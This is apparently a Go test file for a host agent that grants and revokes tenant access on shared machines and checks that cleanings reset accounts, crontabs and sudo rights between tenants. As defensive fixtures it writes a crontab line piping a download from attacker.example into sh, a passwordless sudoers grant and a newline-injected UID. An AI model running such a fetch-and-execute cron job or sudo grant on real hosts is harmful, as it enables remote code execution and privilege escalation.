package agent

import (
	"context"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/nodus-dev/nodus/pkg/agent/cleaning"
	"github.com/nodus-dev/nodus/pkg/agent/executions"
	"github.com/nodus-dev/nodus/pkg/agent/sessions"
	"github.com/nodus-dev/nodus/pkg/agent/state"
	nodusv1 "github.com/nodus-dev/nodus/pkg/apis/nodus/v1"
	"github.com/nodus-dev/nodus/pkg/testhost"
)

// appliedBy is an agent of node, with opts, that applies reservations'
// access into store (apply), the host's real processes and accounts its
// sessions and cleaning.
func appliedBy(store *state.Store, node *nodusv1.Node, opts Options) *Agent {
	return &Agent{opts: opts, store: store, procs: sessions.Procs{Root: "/proc"},
		runner: executions.New(executions.Options{}), lent: func() bool { return true }, ownNode: func() *nodusv1.Node { return node },
		cleaning: &cleaning.Cleaner{Procs: sessions.Procs{Root: "/proc"}, Paths: cleaning.DefaultPaths()},
		beatNow:  make(chan struct{}, 1), unrecorded: map[string]bool{}, refused: map[string]bool{}, rootWarned: map[string]bool{}, termEnded: map[string]bool{},
		refusals: map[string]refusal{}}
}

// sessionAndStore adds a login account named after prefix, whose session
// (a process of its own) session starts, and a state database: what an
// apply test works on. It needs root.
func sessionAndStore(t *testing.T, prefix string) (login string, session func() <-chan struct{}, store *state.Store) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root, to add a login account and run its session (CI is root)")
	}
	login, uid, gid, remove, err := testhost.LoginAccount(prefix)
	if err != nil {
		t.Skipf("no account can be added here: %v", err)
	}
	t.Cleanup(remove)
	store, err = state.Open(filepath.Join(t.TempDir(), "state.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	session = func() <-chan struct{} {
		p := exec.Command("sleep", "1000")
		p.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}}
		if err := p.Start(); err != nil {
			t.Fatal(err)
		}
		ended := make(chan struct{})
		go func() { _ = p.Wait(); close(ended) }()
		t.Cleanup(func() { _ = p.Process.Kill() })
		return ended
	}
	return login, session, store
}

// leftoverOf is the path of a file login's tenant leaves in its home for
// the next tenant, written.
func leftoverOf(t *testing.T, login string) string {
	t.Helper()
	home, err := user.Lookup(login)
	if err != nil {
		t.Fatal(err)
	}
	leftover := filepath.Join(home.HomeDir, "leftover")
	if err := os.WriteFile(leftover, []byte("for the next tenant"), 0o644); err != nil {
		t.Fatal(err)
	}
	return leftover
}

// TestAnEndingAccessLeavesTheSessionsOfAnotherThatGrantsTheUser: a machine
// enrolled under a deleted node's name lists that node's reservations; one
// of them, ending, names the login user the reservation holding the node
// grants now. Applying it ended that user's sessions: the paying tenant's.
func TestAnEndingAccessLeavesTheSessionsOfAnotherThatGrantsTheUser(t *testing.T) {
	login, session, store := sessionAndStore(t, "nodus-apply")
	const holderUID, earlierUID = "5b1d7c52-8a4e-4f4b-9c1e-0d2f3a4b5c6d", "0e9d8c7b-6a5f-4e3d-8c2b-1a0f9e8d7c6b"
	node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	node.Status.Reservation, node.Status.ReservationUID = "holder", holderUID
	a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond})
	reservation := func(name, uid string, epoch int64, st nodusv1.ReservationState) *nodusv1.Reservation {
		r := &nodusv1.Reservation{ObjectMeta: metav1.ObjectMeta{Name: name, UID: types.UID(uid)}}
		r.Spec.LoginUser, r.Spec.Project = login, "acme"
		r.Status.Epoch, r.Status.State, r.Status.LoginUser = epoch, st, login
		return r
	}
	ctx := context.Background()
	a.apply(ctx, reservation("holder", holderUID, 1, nodusv1.ReservationStateActive))
	if !a.userStillGranted(login) {
		t.Fatal("the holder's access was not applied")
	}
	ended := session()

	a.apply(ctx, reservation("earlier", earlierUID, 5, nodusv1.ReservationStateEnding))
	select {
	case <-ended:
		t.Error("applying another reservation's end ended the sessions of the login user the holder grants")
	case <-time.After(time.Second):
	}
}

// TestAnAccessThatGrantsNothingMakesNoAccountATenants: the server lists a
// reservation on the node that lets no one in (released, a UID never seen
// here) and names as its login user an account of the host's no access
// ever granted: a supplier's maintenance account, outside the login group.
// The agent must neither end that account's processes nor record it as a
// login user, which would let a cleaning that names the reservation reset
// the account's home.
func TestAnAccessThatGrantsNothingMakesNoAccountATenants(t *testing.T) {
	login, session, store := sessionAndStore(t, "nodus-maint")
	node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	sshd := t.TempDir()
	a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond, SSHDDropIn: filepath.Join(sshd, "nodus.conf"), LoginGroup: "nodus-login-apply-test"})
	ended := session()

	forged := &nodusv1.Reservation{ObjectMeta: metav1.ObjectMeta{Name: "forged", UID: "7c2e4b1a-3d5f-4a6b-8c9d-0e1f2a3b4c5d"}}
	forged.Spec.LoginUser, forged.Spec.Project = login, "acme"
	forged.Status.Epoch, forged.Status.State, forged.Status.LoginUser = 5, nodusv1.ReservationStateReleased, login
	a.apply(context.Background(), forged)

	applied, ok, err := store.Applied("forged")
	if err != nil || !ok {
		t.Fatalf("the released access was not recorded: %v", err)
	}
	if applied.Epoch != 5 || applied.LoginUser != "" {
		t.Errorf("recorded %+v: the login user no access granted is recorded as one", applied)
	}
	if a.everManaged(login) {
		t.Error("an account no access granted counts as one a tenant used: a cleaning would reset it")
	}
	select {
	case <-ended:
		t.Error("an access that grants nothing ended the processes of an account no access granted")
	case <-time.After(time.Second):
	}
}

// TestATenantWhoCouldBecomeRootCannotLeaveItsAccountUncleaned: a login
// user that could become root when it was granted, and no clean command.
// With root the tenant makes its account one the agent does not reset (a
// uid outside /etc/login.defs' range, or the borrowers' account in the
// agent's configuration, as here) before it leaves. The cleaning passed
// the account over and succeeded, and the node went to the next tenant
// with whatever the first left as root; it must fail as for any tenant
// that could become root.
func TestATenantWhoCouldBecomeRootCannotLeaveItsAccountUncleaned(t *testing.T) {
	login, _, store := sessionAndStore(t, "nodus-root")
	sudoers := t.TempDir()
	if err := os.WriteFile(filepath.Join(sudoers, "tenant"), []byte(login+" ALL=(ALL) NOPASSWD:ALL\n"), 0o440); err != nil {
		t.Fatal(err)
	}
	const uid = "3f1e2d4c-5b6a-4798-8a9b-0c1d2e3f4a5b"
	node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	node.Status.Reservation, node.Status.ReservationUID = "r", uid
	a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond})
	a.cleaning.Paths.Sudoers, a.cleaning.Paths.SudoersDir = filepath.Join(sudoers, "none"), sudoers
	r := &nodusv1.Reservation{ObjectMeta: metav1.ObjectMeta{Name: "r", UID: uid}}
	r.Spec.LoginUser, r.Spec.Project = login, "acme"
	r.Status.Epoch, r.Status.State, r.Status.LoginUser = 1, nodusv1.ReservationStateActive, login
	a.apply(context.Background(), r)
	if ways, err := store.RootAccess(login); err != nil || len(ways) == 0 {
		t.Fatalf("the grant did not record that %s could become root: %v %v", login, ways, err)
	}

	a.runner = executions.New(executions.Options{User: login})
	if a.refuseLoginUser(login) == nil {
		t.Fatal("the account is not refused: the test does not test the case")
	}
	ev := a.clean(context.Background(), &nodusv1.NodeCleaning{Request: 1, Reservation: "r", Epoch: 2})
	if ev.Succeeded || !strings.Contains(ev.Message, "login user "+login+" can become root") {
		t.Errorf("the cleaning after a tenant that could become root, without a clean command: %+v", ev)
	}
}

// TestACleaningThatCannotReadItsStateFails: whether another access grants
// the account came from the state database; when it could not be read,
// the cleaning took every account as granted, reset none, and succeeded.
// Since session 59 the cleaning reads first which accesses owe it, and
// fails there.
func TestACleaningThatCannotReadItsStateFails(t *testing.T) {
	login, _, store := sessionAndStore(t, "nodus-unread")
	a := appliedBy(store, &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}, Options{Grace: 100 * time.Millisecond})
	if err := store.Close(); err != nil {
		t.Fatal(err)
	}
	if ev := a.clean(context.Background(), &nodusv1.NodeCleaning{Request: 1, Users: []string{login}}); ev.Succeeded ||
		!strings.Contains(ev.Message, "reading which accesses owe a cleaning") {
		t.Errorf("a cleaning that could not read the state database: %+v", ev)
	}
}

// TestAnEndedAccessLeavesNothingScheduled: the end of an access ended the
// login user's processes, but its crontab stayed until the cleaning, which
// the server may ask for much later (no leader, the host cut off): a cron
// job ran the tenant's code again every minute after its access ended.
func TestAnEndedAccessLeavesNothingScheduled(t *testing.T) {
	login, _, store := sessionAndStore(t, "nodus-cron")
	cron := t.TempDir()
	if err := os.WriteFile(filepath.Join(cron, login), []byte("* * * * * curl -s https://attacker.example/c | sh\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	const uid = "8d7c6b5a-4f3e-4d2c-9b1a-0f9e8d7c6b5a"
	node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	node.Status.Reservation, node.Status.ReservationUID = "r", uid
	a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond})
	a.cleaning.Paths.CronSpools, a.cleaning.Paths.AtSpools, a.cleaning.Paths.LingerDir = []string{cron}, nil, ""
	r := &nodusv1.Reservation{ObjectMeta: metav1.ObjectMeta{Name: "r", UID: uid}}
	r.Spec.LoginUser, r.Spec.Project = login, "acme"
	r.Status.Epoch, r.Status.State, r.Status.LoginUser = 1, nodusv1.ReservationStateActive, login
	a.apply(context.Background(), r)
	if _, err := os.Stat(filepath.Join(cron, login)); err != nil {
		t.Fatalf("granting access touched the crontab: %v", err)
	}
	r.Status.Epoch, r.Status.State = 2, nodusv1.ReservationStateReleased
	a.apply(context.Background(), r)
	if _, err := os.Stat(filepath.Join(cron, login)); !os.IsNotExist(err) {
		t.Errorf("the tenant's crontab outlived its access: %v", err)
	}
}

// TestAnAccountWithANamelessGroupIsNotATenants: whether an account is in
// the login group was read from `id -nG`, which fails when one of the
// account's groups has no name while it prints the others; the failure was
// taken for "in doubt: a tenant's", so a supplier's account outside the
// login group, named by the server in a cleaning, had its home reset and
// its processes ended. Its groups are read by id now.
func TestAnAccountWithANamelessGroupIsNotATenants(t *testing.T) {
	login, session, store := sessionAndStore(t, "nodus-nameless")
	if out, err := exec.Command("groupdel", "--force", login).CombinedOutput(); err != nil {
		t.Skipf("the account's own group cannot be taken away here: %v: %s", err, out)
	}
	if err := exec.Command("id", "-nG", "--", login).Run(); err == nil {
		t.Fatal("id -nG names every group of the account: the test does not test the case")
	}
	// The login group exists, as it does once nodusd granted an access,
	// with a member: the account's groups are read, not only the group's.
	const loginGroup = "nodus-login-nameless-test"
	member, _, _, removeMember, err := testhost.LoginAccount("nodus-member")
	if err != nil {
		t.Skipf("no account can be added here: %v", err)
	}
	t.Cleanup(removeMember)
	if out, err := exec.Command("groupadd", "--system", loginGroup).CombinedOutput(); err != nil {
		t.Fatalf("groupadd: %v: %s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("groupdel", loginGroup).Run() })
	if out, err := exec.Command("usermod", "--append", "--groups", loginGroup, "--", member).CombinedOutput(); err != nil {
		t.Fatalf("usermod: %v: %s", err, out)
	}
	node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond, SSHDDropIn: filepath.Join(t.TempDir(), "nodus.conf"), LoginGroup: loginGroup})
	if in, err := a.inLoginGroup(member); err != nil || !in {
		t.Fatalf("a member of the login group: in it %v, %v", in, err)
	}
	ended := session()
	if a.everManaged(login) {
		t.Error("an account outside the login group, with a group that has no name, counts as one a tenant used: a cleaning would reset it")
	}
	ev := a.clean(context.Background(), &nodusv1.NodeCleaning{Request: 1, Reservation: "r", Epoch: 2, Users: []string{login}})
	if !slices.ContainsFunc(ev.Steps, func(s string) bool { return strings.Contains(s, "left "+login+" alone") }) {
		t.Errorf("the cleaning did not leave the account alone: %+v", ev)
	}
	select {
	case <-ended:
		t.Error("the cleaning ended the processes of an account no access used")
	case <-time.After(500 * time.Millisecond):
	}
}

// TestAHostIsNotHandedOverUncleaned: nodusd granted any reservation the
// server showed active, so the server's order (no claim before a
// succeeded cleaning) was all that kept a tenant's leftovers from the
// next: a server at fault could hand the host over uncleaned, and a
// cleaning that named nothing of the tenant before passed. The agent
// grants no other access until a cleaning after the tenant succeeded, and
// that cleaning resets what the agent's own record names.
func TestAHostIsNotHandedOverUncleaned(t *testing.T) {
	first, session, store := sessionAndStore(t, "nodus-first")
	next, _, _, removeNext, err := testhost.LoginAccount("nodus-next")
	if err != nil {
		t.Skipf("no account can be added here: %v", err)
	}
	t.Cleanup(removeNext)
	const firstUID, nextUID = "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", "6f5e4d3c-2b1a-4c9d-8e7f-5a4b3c2d1e0f"
	const firstAgainUID = "9e8d7c6b-5a4f-4e3d-9c2b-1a0f9e8d7c6b"
	node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	node.Status.Reservation, node.Status.ReservationUID = "first", firstUID
	a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond})
	reservation := func(name, uid, login string, epoch int64, st nodusv1.ReservationState) *nodusv1.Reservation {
		r := &nodusv1.Reservation{ObjectMeta: metav1.ObjectMeta{Name: name, UID: types.UID(uid)}}
		r.Spec.LoginUser, r.Spec.Project = login, "acme"
		r.Status.Epoch, r.Status.State, r.Status.LoginUser = epoch, st, login
		return r
	}
	ctx := context.Background()
	a.apply(ctx, reservation("first", firstUID, first, 1, nodusv1.ReservationStateActive))
	if !a.userStillGranted(first) {
		t.Fatal("the first tenant's access was not applied")
	}
	leftover := leftoverOf(t, first)

	refused := func(when string) {
		t.Helper()
		a.apply(ctx, reservation("next", nextUID, next, 1, nodusv1.ReservationStateActive))
		if a.userStillGranted(next) {
			t.Fatalf("%s: the next tenant was let in", when)
		}
		a.mu.Lock()
		why := a.refusals["next"].why
		a.mu.Unlock()
		if why != refusalText(errHostOwesCleaning.Error()) || strings.Contains(why, "first") {
			t.Errorf("%s: the next tenant is told %q", when, why)
		}
	}
	// A server at fault: the next reservation, while the first holds the host.
	node.Status.Reservation, node.Status.ReservationUID = "next", nextUID
	refused("while the first tenant's access is granted")
	// The first reservation deleted and made again, shown active without
	// its deletion (a watch that missed it): another object, refused
	// too, and shown so to its tenant, not hidden behind the first
	// object's epoch; the first object's access ends.
	ended := session()
	node.Status.Reservation, node.Status.ReservationUID = "first", firstAgainUID
	a.apply(ctx, reservation("first", firstAgainUID, first, 1, nodusv1.ReservationStateActive))
	if ev := a.withRefusals([]nodusv1.ReservationEvidence{{Name: "first", AppliedEpoch: 1}}); ev[0].RefusedUID != firstAgainUID ||
		ev[0].Refusal != refusalText(errHostOwesCleaning.Error()) {
		t.Errorf("the evidence of the name made again: %+v", ev[0])
	}
	if !a.withheld("first") {
		t.Error("the first object's access is still served")
	}
	select {
	case <-ended:
	case <-time.After(10 * time.Second):
		t.Error("the first object's session outlived the name made again")
	}
	// Released, then the next, with no cleaning between.
	node.Status.Reservation, node.Status.ReservationUID = "next", nextUID
	a.apply(ctx, reservation("first", firstUID, first, 2, nodusv1.ReservationStateReleased))
	refused("after the first tenant's release, before a cleaning")
	// A cleaning that names nothing of the first tenant resets it all the same.
	if ev := a.clean(ctx, &nodusv1.NodeCleaning{Request: 1}); !ev.Succeeded {
		t.Fatalf("the cleaning: %+v", ev)
	}
	if _, err := os.Stat(leftover); !os.IsNotExist(err) {
		t.Errorf("the first tenant's file outlived the cleaning: %v", err)
	}
	a.apply(ctx, reservation("next", nextUID, next, 1, nodusv1.ReservationStateActive))
	if !a.userStillGranted(next) {
		t.Error("the next tenant was not let in after the cleaning")
	}
}

// TestANameNeverAppliedHereIsToldFromOneMadeAgain: a reservation whose
// whole time on this host passed while nodusd was down (or whose access it
// refused, then deleted meanwhile) gets its entry from the cleaning's
// retirement, which knew no UID: at its final epoch and of no object, the
// entry took the reservation made again under the name for the same one,
// and its access (epoch 1) was never applied, with nothing said. The
// cleaning request names the UID of the claim it follows, and the entry
// records it.
func TestANameNeverAppliedHereIsToldFromOneMadeAgain(t *testing.T) {
	login, _, store := sessionAndStore(t, "nodus-again")
	const gone, again = "5d4c3b2a-1f0e-4d9c-8b7a-6f5e4d3c2b1a", "0a1b2c3d-4e5f-4a6b-9c8d-7e6f5a4b3c2d"
	node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond})
	ev := a.clean(context.Background(), &nodusv1.NodeCleaning{Request: 1, Reservation: "r", ReservationUID: gone, Epoch: 3})
	if !ev.Succeeded {
		t.Fatalf("the cleaning after a reservation never applied here: %+v", ev)
	}
	reservation := func(uid string, epoch int64) *nodusv1.Reservation {
		r := &nodusv1.Reservation{ObjectMeta: metav1.ObjectMeta{Name: "r", UID: types.UID(uid)}}
		r.Spec.LoginUser, r.Spec.Project = login, "acme"
		r.Status.Epoch, r.Status.State, r.Status.LoginUser = epoch, nodusv1.ReservationStateActive, login
		return r
	}
	// The reservation it follows is not applied again at its final epoch
	// (a view behind the store, its claim shown again).
	node.Status.Reservation, node.Status.ReservationUID = "r", gone
	a.apply(context.Background(), reservation(gone, 3))
	if a.userStillGranted(login) {
		t.Fatal("the retired reservation was applied again at its final epoch")
	}
	node.Status.Reservation, node.Status.ReservationUID = "r", again
	a.apply(context.Background(), reservation(again, 1))
	if !a.userStillGranted(login) {
		applied, _, _ := store.Applied("r")
		t.Errorf("the reservation made again under the name is not applied: the entry is %+v", applied)
	}
	// What the server names is checked before it is written: a UID that is
	// none is left out, as before.
	if ev := a.clean(context.Background(), &nodusv1.NodeCleaning{Request: 2, Reservation: "s", ReservationUID: "x\nforged", Epoch: 2}); !ev.Succeeded {
		t.Fatalf("the cleaning naming a UID that is none: %+v", ev)
	}
	if applied, _, err := store.Applied("s"); err != nil || applied.UID != "" {
		t.Errorf("a UID that is none was recorded: %q %v", applied.UID, err)
	}
}

// TestAnObjectMadeAgainUnseenEndsTheOneBefore: a watch that missed a
// reservation's deletion shows the one made again under its name as an
// update; while the first owes a cleaning, the second is refused, and the
// first's entry stays. When the second ends (deleted), or a cleaning names
// it, the first's access ends with it and its account is reset: the
// entry's object is gone as surely.
func TestAnObjectMadeAgainUnseenEndsTheOneBefore(t *testing.T) {
	const firstUID, againUID = "2b3c4d5e-6f7a-4b8c-9d0e-1f2a3b4c5d6e", "7a6b5c4d-3e2f-4a1b-8c9d-0e1f2a3b4c5d"
	for _, ending := range []string{"deleted", "cleaned"} {
		t.Run(ending, func(t *testing.T) {
			login, session, store := sessionAndStore(t, "nodus-unseen")
			node := &nodusv1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
			node.Status.Reservation, node.Status.ReservationUID = "r", firstUID
			a := appliedBy(store, node, Options{Grace: 100 * time.Millisecond})
			reservation := func(uid string) *nodusv1.Reservation {
				r := &nodusv1.Reservation{ObjectMeta: metav1.ObjectMeta{Name: "r", UID: types.UID(uid)}}
				r.Spec.LoginUser, r.Spec.Project = login, "acme"
				r.Status.Epoch, r.Status.State, r.Status.LoginUser = 1, nodusv1.ReservationStateActive, login
				return r
			}
			ctx := context.Background()
			a.apply(ctx, reservation(firstUID))
			if !a.userStillGranted(login) {
				t.Fatal("the first object's access was not applied")
			}
			leftover := leftoverOf(t, login)
			node.Status.ReservationUID = againUID
			a.apply(ctx, reservation(againUID))
			if !a.withheld("r") {
				t.Fatal("the object made again was not refused while the first owes a cleaning")
			}
			ended := session() // what the first tenant started again meanwhile

			switch ending {
			case "deleted":
				a.retire(ctx, "r", againUID)
				select {
				case <-ended:
				case <-time.After(10 * time.Second):
					t.Error("the first object's session outlived the deletion of the one made again")
				}
			case "cleaned":
				if ev := a.clean(ctx, &nodusv1.NodeCleaning{Request: 1, Reservation: "r", ReservationUID: againUID, Epoch: 1}); !ev.Succeeded {
					t.Fatalf("the cleaning after the object made again: %+v", ev)
				}
				if _, err := os.Stat(leftover); !os.IsNotExist(err) {
					t.Errorf("the first tenant's file outlived the cleaning: %v", err)
				}
				if owed, err := store.Owed(); err != nil || len(owed) != 0 {
					t.Errorf("still owed after the cleaning: %+v %v", owed, err)
				}
			}
			if a.userStillGranted(login) {
				applied, _, _ := store.Applied("r")
				t.Errorf("the first object's access outlived the one made again: the entry is %+v", applied)
			}
		})
	}
}
